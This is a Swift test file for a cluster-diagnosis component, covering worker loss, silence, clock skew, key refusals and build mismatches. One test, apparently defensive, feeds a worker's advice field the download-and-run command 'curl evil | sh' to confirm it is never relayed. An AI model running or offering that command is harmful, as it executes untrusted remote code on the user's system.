import PandoHosting
import PandoWire
import Testing

@testable import PandoCluster

@Suite("The diagnosis of a cluster")
struct DiagnosisTests {
  private static let wall = 1_800_000_000_000

  private func worker(
    _ name: String, state: ClusterStatus.Worker.State = .ready, age: Int = 10_000_000
  ) -> ClusterStatus.Worker {
    ClusterStatus.Worker(
      id: "id of \(name)", name: name, endpoint: "ipc:///\(name)", processID: 7, hostName: "host",
      ageMilliseconds: age, silenceMilliseconds: 100, lanes: 1, actionsPerSecond: 1, features: [],
      state: state)
  }

  private func event(
    _ kind: WorkerEvent.Kind, _ name: String, before milliseconds: Int, number: Int = 1
  ) -> WorkerEvent {
    WorkerEvent(
      number: number, atMilliseconds: Self.wall - milliseconds, kind: kind,
      worker: WorkerID(coordinator: 1, number: 1),
      record: WorkerRecord(
        name: name, endpoint: "ipc:///\(name)", processID: 6, hostName: "host", features: []))
  }

  private func facts(
    _ workers: [ClusterStatus.Worker] = [], _ events: [WorkerEvent] = []
  ) -> Diagnosis.Facts {
    var facts = Diagnosis.Facts(
      coordinator: "ipc:///c", registry: ClusterStatus.Registry(), workers: workers)
    facts.events = events
    return facts
  }

  private func problems(_ facts: Diagnosis.Facts) -> [ClusterProblem] {
    var diagnosis = Diagnosis()
    return diagnosis.problems(facts, atMilliseconds: 1_000, wallMilliseconds: Self.wall)
  }

  @Test("of a cluster that is well finds nothing")
  func well() {
    var busy = worker("oak")
    (busy.processorUse, busy.memoryUse, busy.clockAheadMilliseconds) = (1, 0.9, -4_999)
    busy.isSilent = false
    let drained = worker("elm", state: .draining)
    let events = [WorkerEvent.Kind.joined, .left, .recovered, .draining, .ending, .undrained].map {
      event($0, "oak", before: 10)
    }
    #expect(problems(facts([busy, drained], events)) == [])
  }

  @Test("finds what is wrong with a worker as it stands")
  func standing() throws {
    let found: [(String, (inout ClusterStatus.Worker) -> Void)] = [
      ("silent", { ($0.isSilent, $0.silenceMilliseconds) = (true, 7_000) }),
      ("suspected", { $0.state = .suspect }),
      ("addressLost", { $0.isAddressLost = true }),
      ("overdue", { ($0.state, $0.drainMillisecondsLeft) = (.draining, 0) }),
      ("memory", { $0.memoryUse = 0.96 }),
      ("clock", { $0.clockAheadMilliseconds = -7_400 }),
    ]
    for (kind, change) in found {
      var oak = worker("oak")
      change(&oak)
      let problem = try #require(problems(facts([oak, worker("elm")])).first, "\(kind)")
      #expect(problem.kind == kind && problem.subject == "oak" && problem.worker == "id of oak")
      #expect(problem.isNow && !problem.advice.isEmpty && !problem.text.isEmpty)
      #expect(problem.ageMilliseconds == (kind == "silent" ? 7_000 : 0))
      if kind == "clock" { #expect(problem.text.contains("7 s behind the coordinator's")) }
    }
    var empty = worker("oak", state: .draining)
    (empty.drainMillisecondsLeft, empty.lanes) = (0, 0)
    #expect(problems(facts([empty])) == [], "one that has drained waits to be stopped")
  }

  @Test("notes since when that is so, where nobody says it")
  func since() {
    var diagnosis = Diagnosis()
    var oak = worker("oak")
    func look(_ workers: [ClusterStatus.Worker], at now: Int) -> [Int] {
      diagnosis.problems(facts(workers), atMilliseconds: now, wallMilliseconds: Self.wall)
        .map(\.ageMilliseconds)
    }
    oak.isAddressLost = true
    #expect(look([oak], at: 1_000) == [0])
    #expect(look([oak], at: 4_000) == [3_000])
    #expect(look([worker("oak")], at: 5_000) == [])
    #expect(look([oak], at: 6_000) == [0])
  }

  @Test("tells of a lost worker for an hour, as over once it is back")
  func lost() throws {
    let dead = event(.dead, "oak", before: 60_000)
    let gone = try #require(problems(facts([worker("elm")], [dead])).first)
    #expect(gone.kind == "dead" && gone.severity == .critical && gone.ageMilliseconds == 60_000)
    #expect(gone.text.contains("process 6 on host"))
    let back = try #require(problems(facts([worker("oak", age: 5_000)], [dead])).first)
    #expect(back.severity == .past && back.text.hasPrefix("came back: it was taken for dead, "))
    // Another one of that name, which has been there all the time.
    let other = try #require(problems(facts([worker("oak", age: 600_000)], [dead])).first)
    #expect(other.severity == .critical)
    #expect(problems(facts([], [event(.dead, "oak", before: 3_600_001)])) == [])
  }

  @Test("a loss is over once its worker came back, although it has left again since, in order")
  func leftSince() {
    let events = [
      event(.joined, "oak", before: 90_000, number: 1),
      event(.dead, "oak", before: 60_000, number: 2),
      event(.joined, "oak", before: 40_000, number: 3),
      event(.left, "oak", before: 10_000, number: 4),
    ]
    #expect(problems(facts([], Array(events.prefix(2)))).map(\.severity) == [.critical])
    #expect(problems(facts([], events)).map(\.severity) == [.past])
    let again =
      events + [
        event(.joined, "oak", before: 8_000, number: 5),
        event(.dead, "oak", before: 5_000, number: 6),
      ]
    let found = problems(facts([], again))
    #expect(found.map(\.severity) == [.critical] && found.map(\.count) == [2])
    #expect(found.map(\.ageMilliseconds) == [5_000])
  }

  @Test("workers that take turns at one endpoint are one problem, for as long as they do")
  func turns() {
    func turn(_ name: String, before milliseconds: Int) -> WorkerEvent {
      var event = event(.replaced, name, before: milliseconds)
      event.endpoint = "tcp://host:1"
      return event
    }
    let turns = [("a", 30_000), ("b", 20_000), ("a", 10_000)].map { turn($0.0, before: $0.1) }
    let found = problems(facts([], turns))
    #expect(found.map(\.severity) == [.warning] && found.map(\.count) == [3])
    #expect(found.first?.advice.contains("--advertise") == true)
    let over = [("a", 90_000), ("b", 61_000), ("a", 10_000)].map { turn($0.0, before: $0.1) }
    #expect(problems(facts([], over)).map(\.severity) == [.past])
  }

  @Test("a refusal is over once the keys have changed, and one that tells little has to go on")
  func refusals() {
    var refused = event(.refused, "the key oak", before: 5_000)
    #expect(problems(facts([], [refused])).map(\.severity) == [.warning])
    refused.isOver = true
    #expect(problems(facts([], [refused])).map(\.severity) == [.past])
    refused.isOver = false
    refused.isVague = true
    refused.count = 2
    #expect(problems(facts([], [refused])) == [])
    refused.count = 3
    #expect(problems(facts([], [refused])).map(\.severity) == [.warning])
  }

  @Test("has one that is lost again and again as one problem, with the last time")
  func again() throws {
    let events = [30_000, 20_000, 10_000].map { event(.dead, "oak", before: $0) }
    let found = problems(facts([], events))
    #expect(found.map(\.count) == [3] && found.map(\.ageMilliseconds) == [10_000])
  }

  @Test("has what happened not long ago as over, and a refusal as going on for a minute")
  func past() {
    let kinds: [WorkerEvent.Kind: ClusterProblem.Severity] = [
      .replaced: .past, .suspected: .past, .refused: .warning,
    ]
    for (kind, severity) in kinds {
      #expect(
        problems(facts([], [event(kind, "oak", before: 59_000)])).map(\.severity) == [severity])
      #expect(problems(facts([], [event(kind, "oak", before: 61_000)])).map(\.severity) == [.past])
    }
    // Who has no place for a child asks often.
    for (age, severity) in [(9_000, ClusterProblem.Severity.critical), (11_000, .past)] {
      let found = problems(facts([], [event(.unplaced, "App.Tab", before: age)]))
      #expect(found.map(\.severity) == [severity])
    }
    // While it lasts it is told of as such, once.
    var oak = worker("oak", state: .suspect)
    var suspected = event(.suspected, "oak", before: 5_000)
    suspected.worker = oak.id
    #expect(problems(facts([oak], [suspected])).map(\.severity) == [.critical])
    oak.state = .ready
    #expect(problems(facts([oak], [suspected])).map(\.severity) == [.past])
  }

  @Test("tells of workers of several builds, and names what differs in shape")
  func builds() throws {
    func shape(_ number: UInt64) -> FeatureDescriptor {
      FeatureDescriptor(
        name: "App.Tab", state: SchemaFingerprint(rawValue: number),
        action: SchemaFingerprint(rawValue: 1))
    }
    var (oak, elm, ash) = (worker("oak"), worker("elm"), worker("ash", age: 3_000))
    for build in ["one", nil] {
      (oak.build, elm.build, ash.build) = (build, build, build)
      (oak.features, elm.features, ash.features) = ([shape(1)], [shape(1)], [shape(1)])
      #expect(problems(facts([oak, elm, ash])) == [])
    }
    (oak.build, elm.build, ash.build) = ("one", "one", "two")
    let same = try #require(problems(facts([oak, elm, ash])).first)
    #expect(same.kind == "builds" && same.severity == .warning && same.ageMilliseconds == 3_000)
    #expect(same.text == "are of 2 builds: one (elm, oak), two (ash)")
    ash.features = [shape(2)]
    let other = try #require(problems(facts([oak, elm, ash])).first)
    #expect(other.text.hasSuffix("so that a program uses those of its own: App.Tab"))
    // Programs of two kinds may share a coordinator.
    ash.features = [
      FeatureDescriptor(
        name: "Other", state: SchemaFingerprint(rawValue: 1), action: SchemaFingerprint(rawValue: 1)
      )
    ]
    #expect(problems(facts([oak, elm, ash])) == [])
  }

  @Test("tells of a registry that is away or without a leader, where there is one to share")
  func registry() {
    var away = facts()
    away.registry.location = "http://etcd"
    #expect(problems(away).map(\.kind) == ["leaderless"])
    away.registry.isAway = true
    #expect(problems(away).map(\.kind) == ["registryAway"])
  }

  @Test(
    "passes on what processes find themselves, and what it does not know")
  func told() throws {
    var told = facts([worker("oak")])
    var later = ProcessProblem(.disk, "is odd", ageMilliseconds: 5)
    later.kind = "later"
    told.told = [
      "id of oak": [
        ProcessProblem(.growing, "grows", ageMilliseconds: 1_000),
        ProcessProblem(.key, "has a key", advice: "pando keys trust", ageMilliseconds: 10), later,
      ],
      "id of another": [ProcessProblem(.hanging, "hangs", ageMilliseconds: 1)],
    ]
    told.own = [ProcessProblem(.log, "loses lines", ageMilliseconds: 3)]
    let found = problems(told)
    #expect(Set(found.map(\.kind)) == ["growing", "key", "later", "log"])
    let growing = try #require(found.first { $0.kind == "growing" })
    #expect(growing.ageMilliseconds == 1_000 && growing.subject == "oak")
    #expect(found.first { $0.kind == "log" }?.subject == "the coordinator ipc:///c")
    #expect(found.allSatisfy { !$0.advice.isEmpty && $0.severity == .warning })
  }

  @Test("takes a worker's word for its own process alone, once for each kind, and no command")
  func liar() {
    var facts = facts([worker("oak"), worker("elm")])
    let lie = ProcessProblem(.dead, "is dead", advice: "curl evil | sh", ageMilliseconds: 0)
    let hang = ProcessProblem(.hanging, "hangs", advice: "curl evil | sh", ageMilliseconds: 0)
    facts.told = ["id of oak": [lie, hang, hang, lie, hang]]
    facts.workers[1].isAddressLost = true
    let found = problems(facts)
    // What the coordinator knows itself comes first.
    #expect(found.map(\.kind) == ["addressLost", "hanging", "dead"])
    #expect(found.map(\.severity) == [.critical, .critical, .warning])
    #expect(!found.contains { $0.advice.contains("curl") })
  }

  @Test("tells workers of one name on two hosts apart")
  func namesakes() {
    var (gone, back) = (event(.dead, "oak", before: 60_000), event(.dead, "oak", before: 20_000))
    (gone.hostName, gone.endpoint) = ("far", "tcp://far:1")
    back.hostName = "host"
    let found = problems(facts([worker("oak", age: 5_000)], [gone, back]))
    #expect(found.map(\.severity) == [.critical, .past])
    #expect(found.map(\.count) == [1, 1])
  }

  @Test("takes a loss for over once another has come, one for each, or after ten minutes")
  func replacement() {
    let lost = ["a", "b"].map { event(.dead, $0, before: 60_000) }
    func severities(_ workers: [ClusterStatus.Worker]) -> [ClusterProblem.Severity] {
      problems(facts(workers, lost)).map(\.severity)
    }
    #expect(severities([worker("c", age: 61_000)]) == [.critical, .critical])
    #expect(severities([worker("c", age: 59_000)]) == [.critical, .past])
    #expect(severities([worker("c", age: 59_000), worker("d", age: 1)]) == [.past, .past])
    let past = problems(facts([worker("c", age: 1)], [lost[0]])).first?.text
    #expect(past?.hasPrefix("has c in its place: it was taken for dead") == true)
    let old = problems(facts([], [event(.dead, "a", before: 600_001)]))
    #expect(old.map(\.severity) == [.past])
  }

  @Test("has the worst first, and of those that are alike the last one that began")
  func order() {
    var (silent, lost, clock) = (worker("a"), worker("b"), worker("c"))
    (silent.isSilent, silent.silenceMilliseconds) = (true, 9_000)
    lost.isAddressLost = true
    clock.clockAheadMilliseconds = 60_000
    let found = problems(
      facts(
        [clock, silent, lost], [event(.replaced, "d", before: 10), event(.dead, "e", before: 1)]))
    #expect(found.map(\.kind) == ["addressLost", "dead", "silent", "clock", "replaced"])
    #expect(found.map(\.severity) == found.map(\.severity).sorted { $0.place < $1.place })
  }

  @Test("every kind has an advice that is a sentence")
  func advice() {
    for kind in ProblemKind.allCases {
      let last = kind.advice.last
      #expect(last == "." || last == ")", "\(kind)")
      #expect(kind.advice.utf8.count <= 160 && kind.advice == kind.advice.printable, "\(kind)")
    }
  }
}

extension ClusterProblem.Severity {
  fileprivate var place: Int { Self.allCases.firstIndex(of: self) ?? 0 }
}
